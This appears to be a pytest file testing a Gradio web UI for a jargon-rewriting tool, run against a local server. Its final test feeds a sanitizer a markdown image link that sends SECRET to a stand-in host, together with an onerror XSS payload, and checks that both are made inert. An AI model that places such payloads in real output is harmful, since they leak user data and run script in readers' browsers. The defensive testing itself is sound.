"""The web UI through its API, as gradio_client (and any script) calls it: a real server on 127.0.0.1."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator
from typing import Any

import gradio as gr
import pytest
from gradio_client import Client
from llm_server import LLMServer

from coach import Coach, Settings
from coach.analysis.jargon import JargonHit, outermost
from coach.features.translate import TranslateResult
from coach.ui import UNEXPLAINED, build_app, highlighted, launch, main

# gradio's queue summarises request timings with pandas in the server thread, in a way pandas 3 deprecates;
# the warning says nothing about coach, and with warnings as errors it would fail the request.
pytestmark = pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning:gradio.queueing")

RECALL = "Our model has high recall but low precision."


def settings(**values: Any) -> Settings:
    """Settings from explicit values only: neither the environment nor a .env file leaks into a test."""
    return Settings(_env_file=None, **values)  # type: ignore[call-arg]


def free_port() -> int:
    # Not port=None: gradio then probes 7860, 7861, ... and leaks the socket of each busy one it tries.
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def start(coach: Coach) -> tuple[gr.Blocks, str]:
    """Build and launch the app on a free port of 127.0.0.1.

    Inside a running event loop, because outside one gradio makes (and never closes) a fresh loop for each
    lock it creates (gradio/utils.py safe_get_lock), and the unclosed loops fail the run as ResourceWarnings.
    """

    async def build_and_launch() -> tuple[gr.Blocks, str]:
        demo = build_app(coach)
        return demo, launch(demo, port=free_port(), prevent_thread_lock=True)

    return asyncio.run(build_and_launch())


class Served:
    """A running app and a client for it; `translate` returns the endpoint's outputs by name."""

    def __init__(self, coach: Coach) -> None:
        self.demo, url = start(coach)
        self.client = Client(url, verbose=False)

    def translate(self, text: str, audiences: list[str], custom: str = "") -> dict[str, Any]:
        out = self.client.predict(text, audiences, custom, api_name="/translate")
        # The status line, then per result tab: rewrite, why it matters, highlighted original, changes, checks.
        tabs = [
            dict(zip(["rewrite", "why", "original", "changes", "checks"], out[i : i + 5], strict=True))
            for i in range(1, len(out), 5)
        ]
        return {"status": out[0], "tabs": [t for t in tabs if t["rewrite"]]}

    def close(self) -> None:
        self.client.close()
        self.demo.close()


@pytest.fixture(scope="module")
def offline() -> Iterator[Served]:
    served = Served(Coach(settings(COACH_ENGINE="offline")))
    yield served
    served.close()


def test_translate_returns_the_rewrite_and_the_offline_badge(offline: Served) -> None:
    out = offline.translate(RECALL, ["executive"])

    assert "Offline engine (rule-based)" in out["status"]
    [tab] = out["tabs"]
    expected = Coach(settings(COACH_ENGINE="offline")).translate(RECALL, "executive")
    assert tab["rewrite"] == expected.rewrite
    assert "precision" not in tab["rewrite"]
    marked = [(p["token"], p["class_or_confidence"]) for p in tab["original"] if p["class_or_confidence"]]
    assert [(j.term, j.plain) for j in outermost(expected.jargon)] == marked
    assert any("recall" in token for token, _ in marked)
    assert "".join(piece["token"] for piece in tab["original"]) == RECALL
    assert [row[0] for row in tab["changes"]["data"]] == [c.from_ for c in expected.changes]
    assert "Fact check" in tab["checks"]
    assert "Readability" in tab["checks"]


def test_several_audiences_and_a_custom_reader_get_one_tab_each(offline: Served) -> None:
    out = offline.translate(RECALL, ["executive", "data-science"], custom="a new CFO who knows SQL")

    assert len(out["tabs"]) == 3
    assert "Executive, Data scientist, Custom reader" in out["status"]


@pytest.mark.parametrize(
    ("text", "audiences", "custom", "message"),
    [
        ("", ["executive"], "", "empty"),
        ("   \n", ["executive"], "", "empty"),
        ("x" * 20_001, ["executive"], "", "limit"),
        (RECALL, [], "", "audience"),
        (RECALL, [], "CFO", "Unknown audience"),
    ],
)
def test_bad_input_is_a_warning_not_a_crash(
    offline: Served, text: str, audiences: list[str], custom: str, message: str
) -> None:
    out = offline.translate(text, audiences, custom)

    assert out["status"].startswith("⚠")
    assert message in out["status"]
    assert out["tabs"] == []


def test_llm_engine_shows_the_model_in_the_badge(llm_server: LLMServer) -> None:
    llm_server.enqueue(
        {"rewrite": "Search is four times faster for customers.", "changes": [], "why_it_matters": "Less waiting."}
    )
    served = Served(Coach(settings(OPENAI_BASE_URL=llm_server.base_url, COACH_MODEL="local-test-model")))
    try:
        out = served.translate("p99 latency dropped from 800ms to 200ms.", ["executive"])
        failed = served.translate("p99 latency dropped from 800ms to 200ms.", ["executive"])  # nothing queued
    finally:
        served.close()

    assert "LLM engine: local-test-model" in out["status"]
    assert out["tabs"][0]["why"] == "**Why it matters:** Less waiting."
    assert failed["status"].startswith("⚠")
    assert failed["tabs"] == []


def test_highlighting_uses_the_outermost_spans_and_labels_unknown_jargon() -> None:
    text = "The API gateway and FOOBAR."
    hits = [
        JargonHit(term="API gateway", plain="front door", start=4, end=15, source="glossary"),
        JargonHit(term="API", plain="interface", start=4, end=7, source="glossary"),
        JargonHit(term="FOOBAR", plain=None, start=20, end=26, source="acronym"),
    ]
    result = TranslateResult.model_construct(original=text, jargon=hits)

    assert highlighted(result) == [
        ("The ", None),
        ("API gateway", "front door"),
        (" and ", None),
        ("FOOBAR", UNEXPLAINED),
        (".", None),
    ]


def test_a_misconfigured_engine_stops_start_up_with_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(settings(COACH_ENGINE="llm"))

    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("coach: ") and err.count("\n") == 1
    assert "OPENAI_BASE_URL" in err


def test_model_text_is_inert_in_markdown() -> None:
    """A model answer (or a paste) cannot make the browser fetch an image or follow a link."""
    from coach.ui.common import inert

    shown = inert("![x](http://host/leak.png?d=SECRET) <img src=x onerror=alert(1)> [a](http://x)")
    assert "![" not in shown and "](" not in shown and "<img" not in shown
    assert "SECRET" in shown  # the words stay visible, as text
